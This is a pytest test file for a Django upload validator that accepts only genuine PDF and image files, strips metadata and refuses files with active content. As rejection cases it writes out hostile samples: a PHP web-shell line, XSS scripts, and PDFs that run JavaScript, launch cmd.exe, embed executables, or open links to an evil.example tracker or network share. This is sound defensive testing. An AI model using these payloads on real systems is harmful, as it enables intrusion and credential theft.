"""SPEC 5.2: only pdf, jpg, jpeg, png and gif whose content matches the extension."""

import io
import zipfile
import zlib
from pathlib import Path

import pypdf
import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.urls import reverse
from fpdf import FPDF
from PIL import Image, ImageCms, ImageFile, PngImagePlugin

from declarations.forms import ProfileEntryForm, entry_form_class
from declarations.models import PrivateFile
from declarations.pdfdoc import pdf_document
from declarations.samples import (
    ENTRY_DATA,
    MINIMAL_PDF,
    PDF_PAGES,
    image_bytes,
    pdf_of_size,
    pdf_with_text,
    scan_image,
)
from declarations.sections import get_section
from declarations.uploads import ALLOWED_TYPES, check_upload, type_error

from .samples import animated_gif, animated_png, png_bomb, upload

ALLOWED_MESSAGE = "只能上传 pdf、jpg、jpeg、png、gif 格式"


def test_type_message_and_help_text_name_every_allowed_extension():
    help_text = entry_form_class(get_section("papers"))().fields["scan"].help_text
    for text in (type_error().messages[0], help_text):
        listed = text.split("上传 ", 1)[1].split(" 格式", 1)[0]
        assert listed.split("、") == list(ALLOWED_TYPES)


def gif_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (20, 20), 3).save(buffer, "GIF")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("扫描件.pdf", MINIMAL_PDF, "application/pdf"),
        ("photo.jpg", image_bytes(fmt="JPEG"), "image/jpeg"),
        ("photo.JPEG", image_bytes(fmt="JPEG"), "image/jpeg"),
        ("scan.png", image_bytes(fmt="PNG"), "image/png"),
        ("anim.gif", gif_bytes(), "image/gif"),
    ],
)
def test_allowed_type_is_accepted(name, content, content_type):
    checked = check_upload(upload(name, content))
    assert checked.content_type == content_type
    assert checked.original_name == name


def _refused(name: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content))
    return caught.value


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("setup.exe", b"MZ\x90\x00\x03" + b"\x00" * 200),
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("page.html", b"<html><body><script>alert(1)</script></body></html>"),
        ("shell.jpg", b"<?php system($_GET['c']); ?>" + b" " * 100),
        ("page.jpg", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("scan.png", MINIMAL_PDF),
        ("photo.pdf", image_bytes(fmt="PNG")),
        ("photo.gif", image_bytes(fmt="PNG")),
        ("noextension", MINIMAL_PDF),
    ],
)
def test_wrong_type_or_mismatched_content_is_refused(name, content):
    assert ALLOWED_MESSAGE in _refused(name, content).messages[0]


def test_truncated_image_is_refused():
    content = image_bytes(size=(400, 400), fmt="PNG")
    error = _refused("scan.png", content[: len(content) // 2])
    assert "已损坏或不完整" in error.messages[0]


def test_truncated_jpeg_is_refused():
    noisy = Image.effect_noise((300, 300), 80).convert("RGB")
    buffer = io.BytesIO()
    noisy.save(buffer, "JPEG")
    error = _refused("scan.jpg", buffer.getvalue()[:2000])
    assert "已损坏或不完整" in error.messages[0]


def test_pdf_without_end_marker_is_refused():
    error = _refused("scan.pdf", MINIMAL_PDF.replace(b"%%EOF", b""))
    assert "PDF" in error.messages[0]


def test_oversized_file_is_refused(settings):
    settings.UPLOAD_MAX_FILE_SIZE = 1024
    error = _refused("scan.pdf", pdf_of_size(3000))
    assert "不能超过" in error.messages[0]


def test_decompression_bomb_is_refused():
    bomb = png_bomb()
    assert len(bomb) < 100_000
    error = _refused("bomb.png", bomb)
    assert "像素尺寸过大" in error.messages[0]


def test_image_over_the_pixel_limit_is_refused_before_decoding(monkeypatch):
    monkeypatch.setattr("declarations.uploads.MAX_IMAGE_PIXELS", 100)
    error = _refused("scan.png", image_bytes(size=(20, 20)))
    assert "像素尺寸过大" in error.messages[0]


def test_png_header_followed_by_html_is_stored_without_the_html():
    content = image_bytes(fmt="PNG") + b"<html><script>alert(1)</script></html>"
    checked = check_upload(upload("scan.png", content))
    stored = checked.content.read()
    assert b"<script>" not in stored
    assert Image.open(io.BytesIO(stored)).size == (60, 40)


def test_exif_metadata_is_stripped_from_kept_images():
    image = Image.new("RGB", (40, 30), "white")
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"  # Make
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    stored = check_upload(upload("photo.jpg", buffer.getvalue())).content.read()
    assert b"SecretCamera" not in stored


MARKER = b"<script>alert('kept')</script>"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + MARKER + b"</x:xmpmeta>"


def _icc_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = MARKER.decode()  # ImageDescription
    return exif


def _jpeg_markers(data: bytes) -> list[tuple[int, bytes]]:
    """The marker segments before the scan, each with its first bytes."""
    assert data[:2] == b"\xff\xd8"
    segments, pos = [], 2
    while data[pos + 1] != 0xDA:  # start of scan: entropy-coded data follows
        marker, length = data[pos + 1], int.from_bytes(data[pos + 2 : pos + 4])
        segments.append((marker, data[pos + 4 : pos + 9]))
        pos += 2 + length
    return segments


def _png_chunks(data: bytes) -> list[bytes]:
    kinds, pos = [], 8
    while pos < len(data):
        length = int.from_bytes(data[pos : pos + 4])
        kinds.append(data[pos + 4 : pos + 8])
        pos += 12 + length
    return kinds


def _gif_extensions(data: bytes) -> list[int]:
    """The labels of the extension blocks of a GIF."""
    flags = data[10]
    pos = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)
    labels = []
    while data[pos] != 0x3B:  # trailer
        if data[pos] == 0x21:
            labels.append(data[pos + 1])
            pos += 2
        else:  # an image: descriptor, local colour table, LZW minimum code size
            flags = data[pos + 9]
            pos += 10 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0) + 1
        while data[pos]:  # data sub-blocks
            pos += 1 + data[pos]
        pos += 1
    return labels


def test_jpeg_comment_exif_xmp_and_icc_segments_are_not_kept():
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(
        buffer, "JPEG", comment=MARKER, exif=_exif(), xmp=XMP, icc_profile=_icc_profile()
    )
    assert {marker for marker, _head in _jpeg_markers(buffer.getvalue())} >= {0xFE, 0xE1, 0xE2}

    stored = check_upload(upload("photo.jpg", buffer.getvalue())).content.read()
    assert MARKER not in stored and b"adobe:ns:meta" not in stored
    segments = _jpeg_markers(stored)
    assert 0xFE not in {marker for marker, _head in segments}  # COM
    # APP0 with the JFIF header is the only application segment.
    assert [head for marker, head in segments if 0xE0 <= marker <= 0xEF] == [b"JFIF\x00"]


def test_gif_comment_extension_is_not_kept():
    buffer = io.BytesIO()
    Image.new("P", (40, 30), 1).save(buffer, "GIF", comment=MARKER)
    assert 0xFE in _gif_extensions(buffer.getvalue())

    stored = check_upload(upload("scan.gif", buffer.getvalue())).content.read()
    assert MARKER not in stored
    assert 0xFE not in _gif_extensions(stored)
    assert 0xFF not in _gif_extensions(stored)  # no application extension either


def test_png_text_exif_and_icc_chunks_are_not_kept():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", MARKER.decode())
    info.add_text("Description", MARKER.decode(), zip=True)  # zTXt
    info.add_itxt("XML:com.adobe.xmp", XMP.decode(), lang="en")
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(buffer, "PNG", pnginfo=info, exif=_exif(), icc_profile=_icc_profile())
    assert {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP"} <= set(_png_chunks(buffer.getvalue()))

    stored = check_upload(upload("scan.png", buffer.getvalue())).content.read()
    assert MARKER not in stored and b"adobe:ns:meta" not in stored
    assert set(_png_chunks(stored)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}


def test_transparency_survives_the_metadata_stripping():
    buffer = io.BytesIO()
    picture = Image.new("P", (40, 30), 1)
    picture.putpixel((0, 0), 2)
    picture.save(buffer, "GIF", transparency=1, comment=MARKER)
    stored = Image.open(io.BytesIO(check_upload(upload("scan.gif", buffer.getvalue())).content.read()))
    alpha = stored.convert("RGBA").getchannel("A")
    assert alpha.getpixel((0, 0)) == 255 and alpha.getpixel((1, 0)) == 0


@pytest.mark.django_db
def test_refusal_is_shown_next_to_the_field_in_the_form(applicant_client):
    data = {**ENTRY_DATA["papers"], "scan": upload("logo.svg", b"<svg></svg>")}
    response = applicant_client.post(reverse("declarations:entry-add", args=["papers"]), data)
    assert response.status_code == 400
    html = response.content.decode()
    assert ALLOWED_MESSAGE in html
    assert ENTRY_DATA["papers"]["title"] in html  # what the applicant typed is kept
    assert not PrivateFile.objects.exists()


@pytest.mark.django_db
def test_request_over_the_size_limit_is_refused_before_it_is_read(applicant_client, settings):
    settings.UPLOAD_MAX_REQUEST_SIZE = 4096
    data = {**ENTRY_DATA["papers"], "scan": upload("big.pdf", pdf_of_size(9000))}
    response = applicant_client.post(reverse("declarations:entry-add", args=["papers"]), data)
    assert response.status_code == 413
    assert "总大小超过" in response.content.decode()
    assert not PrivateFile.objects.exists()


@pytest.mark.django_db
def test_large_upload_streams_to_a_temporary_file(applicant_client, settings, monkeypatch):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024
    seen = {}
    original = ProfileEntryForm.check_file

    def spy(self, name, value):
        seen["on_disk"] = hasattr(value, "temporary_file_path")
        return original(self, name, value)

    monkeypatch.setattr(ProfileEntryForm, "check_file", spy)
    data = {**ENTRY_DATA["papers"], "scan": upload("big.pdf", pdf_of_size(9000))}
    applicant_client.post(reverse("declarations:entry-add", args=["papers"]), data)
    assert seen == {"on_disk": True}
    assert PrivateFile.objects.get().size > 8192


def test_animated_gif_keeps_its_first_frame_only():
    frames = [Image.new("RGB", (30, 30), (i * 60, 0, 0)) for i in range(4)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    stored = Image.open(check_upload(upload("anim.gif", buffer.getvalue())).content)
    assert stored.n_frames == 1
    assert stored.convert("RGB").getpixel((5, 5)) == (0, 0, 0)


@pytest.fixture
def decoded_frames(monkeypatch):
    """The frame numbers Pillow decodes; a fourth decoding fails the test at once (decoding every
    frame of the animations below would take a worker tens of seconds)."""
    frames: list[int] = []
    original = ImageFile.ImageFile.load

    def spy(self):
        if self.tile:  # only a load that has pixel data left to decode counts
            frames.append(self.tell())
            assert len(frames) <= 3, f"decoded frames {frames}"
        return original(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
    return frames


@pytest.mark.parametrize(
    ("name", "content"),
    # The APNG's animation chunk comes after the first 261 bytes, which the type check reads.
    [("anim.gif", animated_gif(frames=60, size=3000)), ("anim.png", animated_png(frames=60, size=3000, comment=300))],
    ids=["gif", "apng"],
)
def test_many_frames_of_a_large_canvas_are_not_decoded(decoded_frames, name, content):
    assert len(content) < 10_000
    checked = check_upload(upload(name, content))
    assert set(decoded_frames) == {0}
    stored = Image.open(checked.content)
    assert (stored.size, getattr(stored, "n_frames", 1)) == ((3000, 3000), 1)


def test_apng_recognised_by_its_first_bytes_is_refused(decoded_frames):
    assert ALLOWED_MESSAGE in _refused("anim.png", animated_png()).messages[0]
    assert decoded_frames == []


def test_gif_with_a_truncated_later_frame_is_stored_without_it():
    frames = [Image.effect_noise((60, 60), 90 + i).convert("RGB") for i in range(3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100)
    content = buffer.getvalue()
    stored = Image.open(check_upload(upload("anim.gif", content[: len(content) - 200])).content)
    assert stored.n_frames == 1


@pytest.mark.django_db
def test_animated_upload_through_the_form_stores_one_frame(applicant_client, decoded_frames):
    data = {**ENTRY_DATA["papers"], "scan": upload("证书.gif", animated_gif(), "image/gif")}
    response = applicant_client.post(reverse("declarations:entry-add", args=["papers"]), data)
    assert response.status_code == 302
    with PrivateFile.objects.get().file.open() as stored:
        assert Image.open(stored).n_frames == 1


# --- Hostile files disguised as allowed types --------------------------------------------------

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
ACTIVE_PDF_MESSAGE = "可执行内容"


def test_svg_renamed_png_is_refused():
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    assert ALLOWED_MESSAGE in _refused("logo.png", svg).messages[0]


def test_png_signature_followed_by_html_is_refused():
    content = PNG_SIGNATURE + b"<html><body><script>alert(document.cookie)</script></body></html>" * 5
    error = _refused("scan.png", content)
    assert "已损坏或不完整" in error.messages[0] or ALLOWED_MESSAGE in error.messages[0]


def test_zip_appended_to_gif_is_stored_without_the_zip():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("payload.html", "<script>alert(1)</script>")
    checked = check_upload(upload("anim.gif", gif_bytes() + archive.getvalue()))
    stored = checked.content.read()
    assert b"PK\x03\x04" not in stored and b"payload.html" not in stored
    assert Image.open(io.BytesIO(stored)).format == "GIF"


def _pdf_with(*extra_objects: bytes, catalog_extra: bytes = b"") -> bytes:
    return pdf_document([b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>", *PDF_PAGES[1:], *extra_objects])


def _pdf_on_page(page_extra: bytes, *extra_objects: bytes, catalog_extra: bytes = b"") -> bytes:
    """A one-page PDF whose page dictionary has `page_extra`; the extra objects are numbered from 4."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page_extra + b">>"
    catalog = b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>"
    return pdf_document([catalog, PDF_PAGES[1], page, *extra_objects])


@pytest.mark.parametrize(
    "content",
    [
        # JavaScript run when the document opens.
        _pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>", catalog_extra=b"/OpenAction 4 0 R"),
        # The same with the names hidden behind #xx escapes.
        _pdf_with(b"<</S/J#61vaScript/J#53(app.alert(1))>>", catalog_extra=b"/OpenAction 4 0 R"),
        # Document-level scripts in the name tree.
        _pdf_with(b"<</JavaScript<</Names[(x) 5 0 R]>>>>", b"<</S/JavaScript/JS(1)>>", catalog_extra=b"/Names 4 0 R"),
        # A program launched from a link.
        _pdf_with(b"<</S/Launch/F(cmd.exe)>>", catalog_extra=b"/OpenAction 4 0 R"),
        # Another file carried inside.
        _pdf_with(b"<</Type/EmbeddedFile/Length 4>>stream\nMZ\x90\x00\nendstream"),
        # A file attached to a page, its stream without /Type /EmbeddedFile.
        _pdf_on_page(
            b"/Annots[4 0 R]",
            b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]"
            b"/FS<</Type/Filespec/F(invoice.exe)/EF<</F 5 0 R>>>>>>",
            b"<</Length 4>>stream\nMZ\x90\x00\nendstream",
        ),
        # The same with the names escaped and no file specification type.
        _pdf_on_page(
            b"/Annots[4 0 R]",
            b"<</Subtype/FileAtt#61chment/Rect[0 0 10 10]/FS<</F(invoice.exe)/E#46<</F 5 0 R>>>>>>",
            b"<</Length 4>>stream\nMZ\x90\x00\nendstream",
        ),
        # A web address opened with the document, or when the page is shown.
        _pdf_with(b"<</S/URI/URI(http://evil.example/track)>>", catalog_extra=b"/OpenAction 4 0 R"),
        _pdf_on_page(b"/AA<</O 4 0 R>>", b"<</S/URI/URI(http://evil.example/track)>>"),
        # A link that opens a document on a network share (leaks the Windows credentials).
        _pdf_on_page(
            b"/Annots[4 0 R]",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/GoToR/F(\\\\evil.example\\share\\a.pdf)/D[0/Fit]>>>>",
        ),
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype/Link/Rect[0 0 10 10]/A<</S/G#6FToR/F(//evil.example/a.pdf)>>>>"),
        # A link to a local file, a network share or a script instead of a web page.
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(file:///C:/x.exe)>>>>"),
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(\\\\evil\\s)>>>>"),
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(javascript:alert(1))>>>>"),
        # A form with a field to fill in, alone or beside a signature field.
        _pdf_with(b"<</Fields[5 0 R]>>", b"<</FT/Tx/T(name)/V(x)>>", catalog_extra=b"/AcroForm 4 0 R"),
        _pdf_with(
            b"<</Fields[5 0 R 6 0 R]>>",
            b"<</FT/Sig/T(sig)>>",
            b"<</FT/Btn/T(ok)>>",
            catalog_extra=b"/AcroForm 4 0 R",
        ),
        # Kinds the list does not know are refused by default.
        _pdf_with(b"<</Type/Sound/Length 0>>stream\n\nendstream"),
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Type/Annot/Subtype/Screen/Rect[0 0 10 10]>>"),
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype/Link/Rect[0 0 10 10]/A<</S/Rendition/R 5 0 R>>>>"),
        # A kind named in another object.
        _pdf_with(b"<</S 5 0 R/JS(app.alert(1))>>", b"/JavaScript", catalog_extra=b"/OpenAction 4 0 R"),
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype 5 0 R/Rect[0 0 10 10]>>", b"/FileAttachment"),
    ],
    ids=[
        "open-action-js",
        "escaped-names",
        "names-tree-js",
        "launch",
        "embedded-file",
        "file-attachment",
        "file-attachment-escaped",
        "open-action-uri",
        "page-aa-uri",
        "gotor-network-share",
        "gotor-escaped",
        "file-uri-link",
        "share-uri-link",
        "javascript-uri-link",
        "form-field",
        "form-field-beside-a-signature",
        "unknown-type",
        "unknown-annotation",
        "unknown-action",
        "indirect-action-name",
        "indirect-annotation-name",
    ],
)
def test_pdf_with_active_content_is_refused(content):
    assert ACTIVE_PDF_MESSAGE in _refused("scan.pdf", content).messages[0]


def _pdf_with_object_stream(packed: bytes) -> bytes:
    """A PDF whose catalog opens object 4 as an action, object 4 (`packed`) compressed inside an
    object stream, so no scan of the raw bytes sees it."""
    header = b"4 0 "
    data = zlib.compress(header + packed)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        *PDF_PAGES[1:],
        b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(header), len(data))
        + data
        + b"\nendstream",
    ]
    # A cross-reference stream: object 4 lives in object stream 5 at index 0.
    out = bytearray(b"%PDF-1.5\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    ObjStm = 5  # noqa: N806
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00" for offset in offsets[:3]]
    rows.append(b"\x02" + (ObjStm).to_bytes(4, "big") + b"\x00")
    rows.append(b"\x01" + offsets[3].to_bytes(4, "big") + b"\x00")
    xref_offset = len(out)
    table = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


@pytest.mark.parametrize(
    "packed",
    [b"<</S/JavaScript/JS(app.alert(1))>>", b"<</S/GoToR/F(//evil.example/a.pdf)>>", b"<</S/Unknown>>"],
    ids=["javascript", "gotor", "unknown-action"],
)
def test_pdf_with_active_content_inside_a_compressed_object_stream_is_refused(packed):
    content = _pdf_with_object_stream(packed)
    assert packed[4:12] not in content
    assert ACTIVE_PDF_MESSAGE in _refused("scan.pdf", content).messages[0]


def test_pdf_opened_at_a_page_inside_a_compressed_object_stream_is_accepted():
    content = _pdf_with_object_stream(b"<</S/GoTo/D[3 0 R/Fit]>>")
    assert check_upload(upload("scan.pdf", content)).size == len(content)


def _fpdf_document() -> bytes:
    """What fpdf2 writes: a page opened at its width, text in a core font, an image, an internal link."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    target = pdf.add_link(page=2)
    pdf.cell(0, 10, "Certificate, see page 2", link=target, new_x="LMARGIN", new_y="NEXT")
    pdf.image(Image.open(io.BytesIO(scan_image("certificate"))), w=80)
    pdf.add_page()
    pdf.cell(0, 10, "Page 2")
    return bytes(pdf.output())


def _scanned_pages() -> bytes:
    """A scan saved as a PDF by Pillow, two pages."""
    buffer = io.BytesIO()
    first, second = (Image.open(io.BytesIO(scan_image(label))) for label in ("page 1", "page 2"))
    first.save(buffer, "PDF", save_all=True, append_images=[second.convert("L")], resolution=150)
    return buffer.getvalue()


def _pypdf_document() -> bytes:
    """Pages copied by pypdf's writer, with an outline entry and page labels."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf_with_text("Evidence")))
    writer.add_blank_page()
    writer.add_outline_item(title="Page 2", page_number=1)
    writer.set_page_label(0, 1, "/D")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        MINIMAL_PDF,
        pdf_with_text("Diploma"),
        pdf_of_size(5000),
        # A link to another place in the document.
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/GoTo/D[3 0 R/Fit]>>>>"),
        _pdf_on_page(b"/Annots[4 0 R]", b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/Dest[3 0 R/XYZ 0 0 0]>>"),
        # A note and a highlight.
        _pdf_on_page(
            b"/Annots[4 0 R 5 0 R]",
            b"<</Type/Annot/Subtype/Text/Rect[0 0 10 10]/Contents(ok)>>",
            b"<</Type/Annot/Subtype/Highlight/Rect[0 0 10 10]/QuadPoints[0 0 10 0 0 10 10 10]>>",
        ),
        # A web link the reader may click (journal papers carry DOI links).
        _pdf_on_page(
            b"/Annots[4 0 R]",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://doi.org/10.1000/182)>>>>",
        ),
        # A digitally signed document: a signature field, its widget and the signature.
        _pdf_on_page(
            b"/Annots[5 0 R]",
            b"<</Fields[5 0 R]/SigFlags 3>>",
            b"<</FT/Sig/T(Signature1)/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/P 3 0 R/V 6 0 R/F 132>>",
            b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 10 20 30]"
            b"/Contents<00>/Reference[<</Type/SigRef/TransformMethod/DocMDP/TransformParams"
            b"<</Type/TransformParams/P 2/V/1.2>>>>]>>",
            catalog_extra=b"/AcroForm 4 0 R",
        ),
        # A linearized file's hint stream.
        _pdf_with(b"<</S 36/Length 0>>stream\n\nendstream"),
        # A form without fields.
        _pdf_with(b"<</Fields[]>>", catalog_extra=b"/AcroForm 4 0 R"),
        _fpdf_document(),
        _scanned_pages(),
        _pypdf_document(),
    ],
    ids=[
        "minimal",
        "text",
        "padded",
        "goto-link",
        "dest-link",
        "annotations",
        "web-link",
        "signed",
        "hint-stream",
        "empty-form",
        "fpdf2",
        "pillow-scan",
        "pypdf",
    ],
)
def test_ordinary_pdf_is_accepted(content):
    assert check_upload(upload("scan.pdf", content)).size == len(content)


@pytest.mark.django_db
@pytest.mark.skipif(not Path(django_settings.PDF_FONT_PATH).exists(), reason="needs the CJK font")
def test_the_declaration_form_pdf_is_accepted_as_evidence(applicant_client, submitted):
    response = applicant_client.get(reverse("declarations:declaration-pdf", args=[submitted.pk]))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(b"%PDF-")
    assert check_upload(upload("申报表.pdf", content)).size == len(content)


def test_password_protected_pdf_is_refused():
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert "已加密" in _refused("scan.pdf", buffer.getvalue()).messages[0]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "bad",
    [
        _pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>", catalog_extra=b"/OpenAction 4 0 R"),
        _pdf_on_page(
            b"/Annots[4 0 R]",
            b"<</Subtype/FileAttachment/Rect[0 0 10 10]/FS<</F(invoice.exe)/EF<</F 5 0 R>>>>>>",
            b"<</Length 4>>stream\nMZ\x90\x00\nendstream",
        ),
    ],
    ids=["javascript", "file-attachment"],
)
def test_pdf_refusal_is_shown_in_the_form_and_nothing_is_stored(applicant_client, bad):
    data = {**ENTRY_DATA["papers"], "scan": upload("论文.pdf", bad, "application/pdf")}
    response = applicant_client.post(reverse("declarations:entry-add", args=["papers"]), data)
    assert response.status_code == 400
    assert ACTIVE_PDF_MESSAGE in response.content.decode()
    assert PrivateFile.objects.count() == 0
